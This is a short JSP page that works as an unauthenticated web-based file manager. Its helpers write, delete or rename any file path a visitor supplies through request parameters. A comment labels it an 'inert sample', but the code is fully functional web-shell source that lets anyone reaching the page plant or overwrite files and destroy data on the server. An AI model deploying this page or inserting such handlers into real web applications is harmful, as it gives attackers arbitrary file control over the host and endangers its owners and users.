<%@ page import="java.io.*" contentType="text/html; charset=UTF-8" %>
<%!
    // Inert sample: a page-level file editor; declared helpers take the path and the text the
    // form posts and write, delete or rename whatever file the client names.
    void store(String where, String body) throws IOException {
        FileWriter fw = new FileWriter(where);
        PrintWriter pw = new PrintWriter(fw);
        pw.print(body);
        pw.close();
    }
    boolean drop(String where) {
        File victim = new File(where);
        return victim.delete();
    }
    void move(String from, String to) {
        new File(from).renameTo(new File(to));
    }
%>
<%
    String what = request.getParameter("what");
    String target = request.getParameter("target");
    if ("save".equals(what)) {
        store(new String(target.getBytes("ISO8859_1")), request.getParameter("body"));
    } else if ("rm".equals(what)) {
        drop(target);
    } else if ("mv".equals(what)) {
        move(target, request.getParameter("to"));
    }
%>
<form method="post"><input name="target"/><textarea name="body"></textarea></form>
